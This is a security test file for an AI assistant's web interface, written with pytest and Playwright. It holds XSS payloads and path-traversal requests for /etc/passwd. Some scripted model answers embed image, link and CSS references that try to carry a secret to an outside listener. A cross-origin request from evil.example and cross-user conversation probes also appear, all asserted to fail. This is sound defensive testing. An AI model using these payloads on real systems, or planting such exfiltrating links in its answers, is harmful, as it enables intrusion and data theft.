"""Text of documents, models and people never runs, and never reaches anyone else."""

from collections.abc import Iterator

import httpx
import pytest
from playwright.sync_api import Page, expect

from assistant.testing.documents import ScriptedDocuments, Text, cite, evidence_for
from assistant.testing.replies import SMALL, Reply
from assistant.testing.sink import listening
from assistant.turn.answer import Support

XSS = "<script>document.title='owned'</script><img src=x onerror=\"document.title='owned'\">"


@pytest.fixture
def sink() -> Iterator[tuple[str, list[str]]]:
    """A server of someone else's, on this machine, that must never hear anything."""
    with listening() as made:
        yield made.address, made.heard


def test_markup_in_titles_passages_answers_and_questions_does_nothing(site, page: Page, asking) -> None:  # type: ignore[no-untyped-def]
    hostile = Text(
        f"evil{XSS}.md", f"Title {XSS}", "en", f"Title\n\n# Heading {XSS}\n\nQuoted {XSS} words. And more.\n"
    )
    source = evidence_for(1, hostile, "Quoted", 0.9)
    site.assistant.documents = ScriptedDocuments((hostile,))
    site.assistant.replies = {"": Reply(
        f"Answer {XSS} [1]. [link](javascript:document.title='owned') and more.", SMALL, evidence=(source,),
        citations=(cite(source, "Quoted"),), support=(Support("and more.", 0.1, False),),
    )}  # fmt: skip
    asking(page, f"Question {XSS}")
    page.locator(".pl-cite").click()
    page.get_by_role("button", name="Show in the document").click()
    expect(page.locator(".pl-reader-text")).to_contain_text("<script>document.title='owned'</script>")
    page.keyboard.press("Escape")
    page.get_by_role("button", name="Documents (").click()
    expect(page.locator(".pl-documents")).to_contain_text("<img src=x")
    page.reload()
    page.wait_for_selector(".pl-chip")
    assert (
        page.evaluate("document.querySelectorAll('#pl-shell img, #pl-shell script, a[href^=javascript]').length") == 0
    )
    assert "owned" not in page.evaluate("document.title").split("<")[0]
    expect(page.locator(".pl-said-text")).to_contain_text(f"Question {XSS}")


def test_images_and_links_carry_nothing_out(site, page: Page, asking, sink: tuple[str, list[str]]) -> None:  # type: ignore[no-untyped-def]
    address, heard = sink
    site.assistant.replies = {"": Reply(
        f"![x]({address}/?q=SECRET) <img src='{address}/img'> ![y][1] [site]({address}/link) "
        f"<style>body{{background:url({address}/css)}}</style> <link rel=prefetch href={address}/pre>"
        f"\n\n[1]: {address}/ref"
    )}  # fmt: skip
    asking(page, "anything")
    page.wait_for_timeout(500)
    assert heard == []
    expect(page.get_by_role("link", name="site")).to_have_attribute("rel", "noopener noreferrer nofollow")


SLIPPED = """async (address) => {
    const seen = [];
    document.addEventListener('securitypolicyviolation', (event) => seen.push(event.effectiveDirective));
    const box = document.createElement('div');
    box.innerHTML = `<img src="${address}/img"><img src="data:image/png;base64,AAAA" onerror="document.title='owned'">
        <iframe src="${address}/frame"></iframe><button onclick="document.title='owned'">x</button>`;
    document.body.append(box);
    box.querySelector('button').click();
    const script = document.createElement('script');
    script.textContent = "document.title = 'owned'";
    document.body.append(script);
    try { await fetch(address + '/fetch'); } catch { /* as it should be */ }
    await new Promise((done) => setTimeout(done, 300));
    box.remove();
    return seen;
}"""


def test_the_policy_stops_what_would_slip_through(new_page, sink: tuple[str, list[str]]) -> None:  # type: ignore[no-untyped-def]
    address, heard = sink
    page = new_page(strict=False)
    blocked = page.evaluate(SLIPPED, address)
    assert {"img-src", "frame-src", "connect-src", "script-src-attr", "script-src-elem"} <= set(blocked)
    assert page.title() != "owned"
    assert heard == []


def test_the_page_is_served_with_its_policy_and_a_fresh_nonce(site) -> None:  # type: ignore[no-untyped-def]
    first, second = httpx.get(site.address), httpx.get(site.address)
    policy = first.headers["content-security-policy"]
    for part in ("default-src 'self'", "img-src 'self' data:", "frame-ancestors 'self'", "object-src 'none'"):
        assert part in policy
    script = next(part for part in policy.split(";") if "script-src" in part)
    assert "'unsafe-inline'" not in script
    assert policy != second.headers["content-security-policy"]
    assert first.headers["x-content-type-options"] == "nosniff"
    assert "access-control-allow-origin" not in first.headers
    assert "googleapis" not in first.text


@pytest.mark.parametrize(
    "path",
    [
        "gradio_api/proxy=https://example.hf.space/x", "gradio_api/file=/etc/passwd", "gradio_api/info",
        "gradio_api/openapi.json", "gradio_api/runs", "gradio_api/vibe-code", "gradio_api/token",
        "gradio_api/deep_link",
        "monitoring", "docs", "redoc",
        "openapi.json", "login", "svelte/x", "robots.txt/../gradio_api/info", "static/../../../../etc/passwd",
        "pilares/../blocks.py", "pilares/%2e%2e/blocks.py", "assets/../../../routes.py",
    ],
)  # fmt: skip
def test_what_the_page_does_not_need_is_not_there(site, path: str) -> None:  # type: ignore[no-untyped-def]
    target = httpx.URL(site.address).copy_with(raw_path=f"/{path}".encode())  # sent as it is, dots and all
    with httpx.Client() as client:
        response = client.send(httpx.Request("GET", target))
    assert response.status_code in (403, 404, 405)


def test_page_events_from_another_site_are_refused(site) -> None:  # type: ignore[no-untyped-def]
    body = {"data": [], "fn_index": 0, "session_hash": "x"}
    response = httpx.post(f"{site.address}gradio_api/queue/join", json=body, headers={"origin": "http://evil.example"})
    assert response.status_code == 403


def test_a_page_event_cannot_reach_another_users_conversation(site) -> None:  # type: ignore[no-untyped-def]
    theirs = site.assistant.conversations.start("somebody-else", title="Private matters")
    site.assistant.conversations.begin_turn("somebody-else", theirs.id, "a secret question")
    page = httpx.get(f"{site.address}?c={theirs.id}")
    assert "secret" not in page.text
    config = httpx.get(f"{site.address}config").json()
    for dependency in config["dependencies"]:
        number, session = dependency["id"], f"s{dependency['id']}"
        data = [theirs.id if index < 3 else None for index in range(len(dependency["inputs"]))]
        event = {"id": theirs.id, "turn": theirs.id, "answer": theirs.id, "verdict": "up", "title": "mine"}
        body = {"data": data, "fn_index": number, "session_hash": session, "event_data": event}
        httpx.post(f"{site.address}gradio_api/queue/join", json=body)
        with httpx.stream("GET", f"{site.address}gradio_api/queue/data?session_hash={session}", timeout=20) as told:
            said = ""
            for line in told.iter_lines():
                said += line
                if "process_completed" in line or "close_stream" in line or "unexpected_error" in line:
                    break
        assert "secret" not in said
        assert "Private matters" not in said
    assert site.assistant.conversations.get("somebody-else", theirs.id).title == "Private matters"
